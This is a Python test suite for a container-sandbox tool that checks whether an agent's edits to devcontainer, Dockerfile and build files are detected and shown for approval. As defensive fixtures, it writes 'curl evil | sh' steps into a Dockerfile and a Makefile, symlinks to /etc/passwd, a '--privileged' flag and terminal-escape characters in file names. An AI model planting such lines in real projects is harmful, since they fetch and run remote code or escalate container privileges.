"""The cloister's shape: read as if the agent were hostile, changes shown and asked."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from cloister_cli.images import shape
from cloister_cli.images.shape import (
    NOTE,
    Shape,
    ShapeChangedError,
    check_shape,
    difference,
    load_approved,
    read_shape,
    save_approved,
)
from cloister_cli.start import plan as planning
from cloister_core.paths import CloisterPaths
from tests.cli.start.test_dryrun import preview_context
from tests.git_support import make_repo

DEVCONTAINER = '{\n  "image": "debian:12",\n  "runArgs": []\n}\n'


@pytest.fixture
def paths(tmp_path: Path) -> CloisterPaths:
    return CloisterPaths(config_dir=tmp_path / "config", data_dir=tmp_path / "data")


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / ".devcontainer").mkdir(parents=True)
    (root / ".devcontainer" / "devcontainer.json").write_text(DEVCONTAINER)
    (root / "src").mkdir()
    (root / "src" / "main.py").write_text("print('not part of the shape')\n")
    return root


class Asker:
    """A confirm callback that records what it was shown."""

    def __init__(self, answer: bool) -> None:
        self.answer = answer
        self.shown: list[str] = []

    def __call__(self, text: str) -> bool:
        self.shown.append(text)
        return self.answer


def approve(paths: CloisterPaths, root: Path) -> Shape:
    current = read_shape(root)
    save_approved(paths, "api", current)
    return current


def changed_text(paths: CloisterPaths, root: Path) -> str:
    asker = Asker(True)
    check_shape(paths, "api", root, confirm=asker, assume_yes=False)
    assert len(asker.shown) == 1
    return asker.shown[0]


# -- reading -----------------------------------------------------------------------------


def test_only_the_shape_sources_are_read(project: Path) -> None:
    (project / ".cloister").mkdir()
    (project / ".cloister" / "project.yaml").write_text("refs: []\n")
    (project / ".devcontainer.json").write_text("{}\n")
    read = read_shape(project)
    assert read.files == {
        ".cloister/project.yaml": "refs: []\n",
        ".devcontainer.json": "{}\n",
        ".devcontainer/devcontainer.json": DEVCONTAINER,
    }
    assert read.overflow == ""


def test_a_project_without_a_shape_is_empty(tmp_path: Path) -> None:
    assert read_shape(tmp_path).files == {}


def test_a_link_out_of_the_project_is_recorded_not_read(project: Path) -> None:
    (project / ".devcontainer" / "devcontainer.json").unlink()
    (project / ".devcontainer" / "devcontainer.json").symlink_to("/etc/passwd")
    (project / ".cloister").symlink_to("/etc")
    read = read_shape(project)
    assert read.files == {
        ".cloister": NOTE + "-> /etc",
        ".devcontainer/devcontainer.json": NOTE + "-> /etc/passwd",
    }
    assert "root:" not in json.dumps(dict(read.files))


def test_a_link_inside_the_project_is_followed_there(project: Path, paths: CloisterPaths) -> None:
    (project / "conf").mkdir()
    (project / "conf" / "dc.json").write_text(DEVCONTAINER)
    (project / ".devcontainer" / "devcontainer.json").unlink()
    (project / ".devcontainer" / "devcontainer.json").symlink_to("../conf/dc.json")
    approve(paths, project)
    assert read_shape(project).files["conf/dc.json"] == DEVCONTAINER
    # The agent edits the file the link leads to, not the link.
    (project / "conf" / "dc.json").write_text(DEVCONTAINER.replace("[]", '["--privileged"]'))
    assert '+  "runArgs": ["--privileged"]' in changed_text(paths, project)


def test_links_in_a_loop_end(project: Path) -> None:
    (project / ".devcontainer" / "self").symlink_to(".")
    (project / ".devcontainer" / "up").symlink_to("..")
    (project / ".devcontainer" / "loop").symlink_to("loop")
    read = read_shape(project)
    assert read.files[".devcontainer/loop"] == NOTE + "-> loop"
    # ".." is the project: followed, so the whole project is compared (conservative).
    assert read.files["src/main.py"] == "print('not part of the shape')\n"


@pytest.mark.timeout(10)
def test_a_fifo_is_recorded_without_opening_it(project: Path) -> None:
    os.mkfifo(project / ".devcontainer" / "Dockerfile")
    read = read_shape(project)
    assert read.files[".devcontainer/Dockerfile"] == NOTE + "FIFO: not read"


def test_a_huge_file_is_bounded(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    sparse = project / ".devcontainer" / "huge.bin"
    with sparse.open("wb") as handle:
        handle.truncate(64 * 1024**3)  # 64 GiB of nothing: never read
    (project / ".devcontainer" / "big.txt").write_text("x" * (shape.FILE_LIMIT + 1))
    read = read_shape(project)
    assert read.files[".devcontainer/huge.bin"].startswith(
        f"{NOTE}{64 * 1024**3} bytes, not read (beyond the reading budget): inode "
    )
    big = read.files[".devcontainer/big.txt"]
    assert big.startswith(f"{NOTE}not kept as text, {shape.FILE_LIMIT + 1} bytes, sha256 ")
    assert len(big) < 200


def test_a_binary_file_is_a_digest(project: Path) -> None:
    (project / ".devcontainer" / "tool").write_bytes(b"\x7fELF\0\0\xff")
    value = read_shape(project).files[".devcontainer/tool"]
    assert value.startswith(f"{NOTE}binary, 7 bytes, sha256 ")


def test_beyond_the_file_limit_changes_are_still_seen(
    project: Path, paths: CloisterPaths, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(shape, "MAX_FILES", 3)
    for index in range(6):
        (project / ".cloister").mkdir(exist_ok=True)
        (project / ".cloister" / f"f{index}").write_text(f"{index}\n")
    first = approve(paths, project)
    assert len(first.files) == 3
    assert first.overflow.startswith("4 more entries beyond the first 3")
    assert difference(first, read_shape(project)) == ""
    (project / ".cloister" / "f5").write_text("changed\n")
    with pytest.raises(ShapeChangedError, match=r"the entries not recorded one by one"):
        check_shape(paths, "api", project, confirm=None)


def test_a_tree_too_large_to_compare_is_asked_every_time(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(shape, "MAX_ENTRIES", 3)
    (project / ".cloister").mkdir()
    for index in range(5):
        (project / ".cloister" / f"f{index}").write_text("")
    assert "asked every time" in read_shape(project).overflow
    assert read_shape(project).digest != read_shape(project).digest


def test_an_explicit_file_outside_the_project_is_read_by_absolute_path(
    project: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "elsewhere" / "dc.json"
    outside.parent.mkdir()
    outside.write_text("{}\n")
    inside = project / "tools" / "dc.json"
    inside.parent.mkdir()
    inside.write_text('{"image": "x"}\n')
    read = read_shape(project, [outside, inside])
    assert read.files[str(outside)] == "{}\n"
    assert read.files["tools/dc.json"] == '{"image": "x"}\n'


# -- the record --------------------------------------------------------------------------


def test_the_record_round_trips_odd_names(project: Path, paths: CloisterPaths) -> None:
    odd = os.fsdecode(b".cloister/bad\xffname\nwith a newline")
    (project / ".cloister").mkdir()
    (project / odd).write_text("x\n")
    current = read_shape(project)
    assert odd in current.files
    save_approved(paths, "api", current)
    record = paths.data_dir / "shapes" / "api.json"
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    assert load_approved(paths, "api") == current


def test_an_unusable_record_counts_as_none(paths: CloisterPaths) -> None:
    assert load_approved(paths, "api") is None
    record = paths.data_dir / "shapes" / "api.json"
    record.parent.mkdir(parents=True)
    record.write_text("{not json")
    assert load_approved(paths, "api") is None
    record.write_text(json.dumps({"version": 1, "files": {"a": 1}}))
    assert load_approved(paths, "api") is None


# -- the check ---------------------------------------------------------------------------


def test_an_unchanged_shape_asks_nothing(project: Path, paths: CloisterPaths) -> None:
    approved = approve(paths, project)
    (project / "src" / "main.py").write_text("edited: not part of the shape\n")
    asker = Asker(False)
    assert check_shape(paths, "api", project, confirm=asker) == approved
    assert asker.shown == []


def test_an_edited_devcontainer_shows_the_changed_line(project: Path, paths: CloisterPaths) -> None:
    approve(paths, project)
    edited = DEVCONTAINER.replace('"runArgs": []', '"runArgs": ["--privileged"]')
    (project / ".devcontainer" / "devcontainer.json").write_text(edited)
    text = changed_text(paths, project)
    assert ".devcontainer/devcontainer.json: changed" in text
    assert '-  "runArgs": []' in text
    assert '+  "runArgs": ["--privileged"]' in text


def test_added_and_removed_files_are_listed(project: Path, paths: CloisterPaths) -> None:
    approve(paths, project)
    (project / ".devcontainer" / "devcontainer.json").unlink()
    (project / ".cloister").mkdir()
    (project / ".cloister" / "project.yaml").write_text("allow: ['*']\n")
    text = changed_text(paths, project)
    assert ".devcontainer/devcontainer.json: removed" in text
    assert ".cloister/project.yaml: added" in text
    assert "+allow: ['*']" in text


def test_a_directory_replacing_a_file_is_a_change(project: Path, paths: CloisterPaths) -> None:
    (project / ".devcontainer.json").write_text("{}\n")
    approve(paths, project)
    (project / ".devcontainer.json").unlink()
    (project / ".devcontainer.json").mkdir()
    (project / ".devcontainer.json" / "x").write_text("y\n")
    text = changed_text(paths, project)
    assert ".devcontainer.json: removed" in text
    assert ".devcontainer.json/x: added" in text


def test_a_file_replaced_by_a_link_with_the_same_text_is_a_change(
    project: Path, paths: CloisterPaths
) -> None:
    (project / ".devcontainer" / "note").write_text("-> /etc/passwd")
    approve(paths, project)
    (project / ".devcontainer" / "note").unlink()
    (project / ".devcontainer" / "note").symlink_to("/etc/passwd")
    text = changed_text(paths, project)
    assert "+(-> /etc/passwd)" in text


def test_escapes_in_content_and_names_are_shown_as_escapes(
    project: Path, paths: CloisterPaths
) -> None:
    approve(paths, project)
    hidden = '{"image": "debian:12", "runArgs": ["--privileged"]}\x1b[2K\r{"image": "ok"}\n'
    (project / ".devcontainer" / "devcontainer.json").write_text(hidden)
    (project / ".devcontainer" / "evil\x1b]0;title\x07\u202ename").write_text("a\u2028b\n")
    text = changed_text(paths, project)
    assert "\x1b" not in text
    assert "\r" not in text
    assert "\x07" not in text
    assert "\u202e" not in text
    assert "\u2028" not in text
    assert "--privileged" in text
    assert "\\x1b[2K\\x0d" in text
    assert "evil\\x1b]0;title\\x07\\u202ename: added" in text
    assert "+a\\u2028b" in text


def test_refused_raises_and_saves_nothing(project: Path, paths: CloisterPaths) -> None:
    approved = approve(paths, project)
    (project / ".devcontainer" / "devcontainer.json").write_text("{}\n")
    asker = Asker(False)
    with pytest.raises(
        ShapeChangedError, match=r"^api not started: you did not accept the change to \.dev"
    ) as error:
        check_shape(paths, "api", project, confirm=asker)
    assert ".devcontainer/devcontainer.json" in str(error.value)
    assert "\n" not in str(error.value)
    assert load_approved(paths, "api") == approved


def test_without_anyone_to_ask_it_says_how_to_go_on(project: Path, paths: CloisterPaths) -> None:
    approve(paths, project)
    (project / ".devcontainer" / "devcontainer.json").write_text("{}\n")
    with pytest.raises(ShapeChangedError, match=r"--yes") as error:
        check_shape(paths, "api", project, confirm=None)
    assert "in a terminal" in str(error.value)
    assert ".devcontainer/devcontainer.json" in str(error.value)


def test_assume_yes_asks_nothing(project: Path, paths: CloisterPaths) -> None:
    approve(paths, project)
    (project / ".devcontainer" / "devcontainer.json").write_text("{}\n")
    asker = Asker(False)
    current = check_shape(paths, "api", project, confirm=asker, assume_yes=True)
    assert asker.shown == []
    assert current.files[".devcontainer/devcontainer.json"] == "{}\n"


def test_the_first_start_lists_the_files_and_asks(project: Path, paths: CloisterPaths) -> None:
    (project / ".devcontainer" / "link").symlink_to("/etc/passwd")
    text = changed_text(paths, project)
    assert text.startswith("first start with these files")
    assert f"  .devcontainer/devcontainer.json ({len(DEVCONTAINER)} bytes)" in text
    assert "  .devcontainer/link (-> /etc/passwd)" in text
    assert '"image"' not in text  # names and sizes, not the content
    with pytest.raises(ShapeChangedError, match=r"never approved \(\.devcontainer/devcontainer"):
        check_shape(paths, "api", project, confirm=None)


def test_the_first_start_without_a_shape_asks_nothing(tmp_path: Path, paths: CloisterPaths) -> None:
    asker = Asker(False)
    assert check_shape(paths, "api", tmp_path, confirm=asker).files == {}
    assert asker.shown == []


def test_a_new_devcontainer_after_an_empty_approval_is_shown_in_full(
    tmp_path: Path, paths: CloisterPaths
) -> None:
    approve(paths, tmp_path)
    (tmp_path / ".devcontainer.json").write_text(DEVCONTAINER)
    text = changed_text(paths, tmp_path)
    assert '+  "image": "debian:12",' in text


def test_a_missing_final_newline_is_visible(project: Path, paths: CloisterPaths) -> None:
    approve(paths, project)
    (project / ".devcontainer" / "devcontainer.json").write_text(DEVCONTAINER.rstrip("\n"))
    assert "+\\ No newline at end of file" in changed_text(paths, project)


def test_a_long_chain_of_links_does_not_recurse(tmp_path: Path) -> None:
    (tmp_path / ".cloister").mkdir()
    for index in range(1500):
        (tmp_path / f"d{index}").mkdir()
        (tmp_path / f"d{index}" / "next").symlink_to(f"../d{index + 1}")
    (tmp_path / ".cloister" / "start").symlink_to("../d0")
    read = read_shape(tmp_path)
    assert read.files["d1499/next"] == NOTE + "-> ../d1500"


def test_a_dockerfile_outside_the_devcontainer_directory_is_approved_too(
    tmp_path: Path, paths: CloisterPaths
) -> None:
    from cloister_core.devcontainer import load_devcontainer

    root = tmp_path / "proj"
    (root / ".devcontainer").mkdir(parents=True)
    (root / ".devcontainer" / "devcontainer.json").write_text(
        json.dumps({"build": {"dockerfile": "../Dockerfile", "context": ".."}})
    )
    (root / "Dockerfile").write_text("FROM debian\n")
    devcontainer = load_devcontainer(
        root / ".devcontainer" / "devcontainer.json",
        project_root=root,
        home=tmp_path / "home",
        environ={},
    )
    extra = planning.build_inputs(devcontainer)
    assert root / "Dockerfile" in extra
    approved = check_shape(paths, "proj", root, extra=extra, confirm=None, assume_yes=True)
    save_approved(paths, "proj", approved)
    assert check_shape(paths, "proj", root, extra=extra, confirm=None) == approved
    (root / "Dockerfile").write_text("FROM debian\nRUN curl evil | sh\n")
    asked: list[str] = []

    def refuse(shown: str) -> bool:
        asked.append(shown)
        return False

    with pytest.raises(ShapeChangedError):
        check_shape(paths, "proj", root, extra=extra, confirm=refuse)
    assert "Dockerfile" in asked[0]
    assert "curl evil" in asked[0]


def test_a_compose_service_build_context_is_approved_too(tmp_path: Path) -> None:
    """A sidecar built from the project runs what its context holds at build time."""
    from cloister_core.devcontainer import load_devcontainer

    root = tmp_path / "proj"
    (root / ".devcontainer").mkdir(parents=True)
    (root / "db").mkdir()
    (root / "db" / "Dockerfile").write_text("FROM debian\nCOPY . /src\nRUN make -C /src\n")
    (root / "db" / "Makefile").write_text("all:\n\ttrue\n")
    (root / ".devcontainer" / "devcontainer.json").write_text(
        json.dumps({"dockerComposeFile": "compose.yaml", "service": "app"})
    )
    (root / ".devcontainer" / "compose.yaml").write_text(
        "services:\n  app:\n    image: debian\n  db:\n    build: ../db\n"
    )
    devcontainer = load_devcontainer(
        root / ".devcontainer" / "devcontainer.json",
        project_root=root,
        home=tmp_path / "home",
        environ={},
    )
    extra = planning.build_inputs(devcontainer)
    assert root / "db" in extra
    before = read_shape(root, extra=extra)
    (root / "db" / "Makefile").write_text("all:\n\tcurl evil | sh\n")
    assert read_shape(root, extra=extra).digest != before.digest


def test_host_environment_is_an_allowlist() -> None:

    environ = {"HOME": "/h", "LC_ALL": "C", "GITHUB_TOKEN": "t", "TZ": "UTC", "PATH": "/bin"}
    assert planning.host_environment(environ) == {"HOME": "/h", "LC_ALL": "C", "TZ": "UTC"}


def test_a_git_directory_in_a_build_context_is_not_part_of_the_shape(tmp_path: Path) -> None:
    """A context of `..` is the whole project: its `.git` (never sent to a build) changes
    at every commit and must not make every start ask."""
    (tmp_path / "Dockerfile").write_text("FROM debian:bookworm-slim\n", encoding="utf-8")
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
    before = read_shape(tmp_path, extra=[tmp_path])
    (tmp_path / ".git" / "HEAD").write_text("ref: refs/heads/other\n", encoding="utf-8")
    assert read_shape(tmp_path, extra=[tmp_path]).digest == before.digest
    (tmp_path / "Dockerfile").write_text("FROM debian:bookworm-slim\nRUN true\n", encoding="utf-8")
    assert read_shape(tmp_path, extra=[tmp_path]).digest != before.digest


# -- --no-devcontainer: the file it ignores is never asked about --------------------------


def test_without_the_devcontainer_only_cloisters_files_are_read(project: Path) -> None:
    (project / ".devcontainer.json").write_text(DEVCONTAINER)
    (project / ".cloister").mkdir()
    (project / ".cloister" / "Dockerfile").write_text("ARG CLOISTER_BASE\n")
    assert sorted(read_shape(project, scope="cloister").files) == [".cloister/Dockerfile"]
    assert ".devcontainer/devcontainer.json" in read_shape(project).files


def test_a_changed_devcontainer_is_not_asked_about_when_it_is_not_used(
    project: Path, paths: CloisterPaths
) -> None:
    (project / ".cloister").mkdir()
    (project / ".cloister" / "Dockerfile").write_text("ARG CLOISTER_BASE\n")
    approve(paths, project)
    # Cloister's own files, approved in a start with the devcontainer, count without it.
    save_approved(paths, "api", check_shape(paths, "api", project, confirm=None, scope="cloister"))
    edited = DEVCONTAINER.replace('"runArgs": []', '"runArgs": ["--privileged"]')
    (project / ".devcontainer" / "devcontainer.json").write_text(edited)
    asker = Asker(False)
    accepted = check_shape(paths, "api", project, confirm=asker, scope="cloister")
    assert asker.shown == []
    save_approved(paths, "api", accepted)
    # Approving the shape without the devcontainer does not approve the devcontainer:
    # the next start that uses it still asks, about the file it uses.
    asker = Asker(True)
    check_shape(paths, "api", project, confirm=asker)
    assert len(asker.shown) == 1
    assert '+  "runArgs": ["--privileged"]' in asker.shown[0]
    assert ".cloister/Dockerfile" not in asker.shown[0]  # approved, in both scopes


def test_a_change_to_cloisters_files_is_asked_about_in_either_scope(
    project: Path, paths: CloisterPaths
) -> None:
    (project / ".cloister").mkdir()
    (project / ".cloister" / "Dockerfile").write_text("ARG CLOISTER_BASE\n")
    approve(paths, project)
    save_approved(paths, "api", read_shape(project, scope="cloister"))
    (project / ".cloister" / "Dockerfile").write_text("ARG CLOISTER_BASE\nRUN id\n")
    for scope in ("cloister", "all"):
        asker = Asker(False)
        with pytest.raises(ShapeChangedError):
            check_shape(paths, "api", project, confirm=asker, scope=scope)
        assert "+RUN id" in asker.shown[0]


def test_a_record_from_before_scopes_covers_every_source(
    project: Path, paths: CloisterPaths
) -> None:
    current = read_shape(project)
    record = paths.data_dir / "shapes" / "api.json"
    record.parent.mkdir(parents=True)
    record.write_text(json.dumps({"version": 1, "files": dict(current.files), "overflow": ""}))
    assert load_approved(paths, "api") == current
    # Its part of Cloister's own files (none here) is the approval without the devcontainer.
    assert load_approved(paths, "api", "cloister") == Shape(files={}, scope="cloister")


def test_a_preview_without_the_devcontainer_asks_nothing_about_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`cloister start --no-devcontainer --dry-run`: the file it ignores is not in the
    shape, so nothing is shown to approve; with the file, it is."""
    context = preview_context(tmp_path, monkeypatch)
    repo = make_repo(tmp_path / "home" / "src" / "api")
    (repo / ".devcontainer").mkdir()
    (repo / ".devcontainer" / "devcontainer.json").write_text('{"image": "x"}')
    options = planning.StartOptions(project_name="api", no_devcontainer=True)
    assert planning.plan_start(context, repo, options, dry_run=True).shape_difference == ""
    (repo / ".cloister").mkdir()
    (repo / ".cloister" / "Dockerfile").write_text("ARG CLOISTER_BASE\n")
    shown = planning.plan_start(context, repo, options, dry_run=True).shape_difference
    assert ".cloister/Dockerfile" in shown
    assert ".devcontainer" not in shown
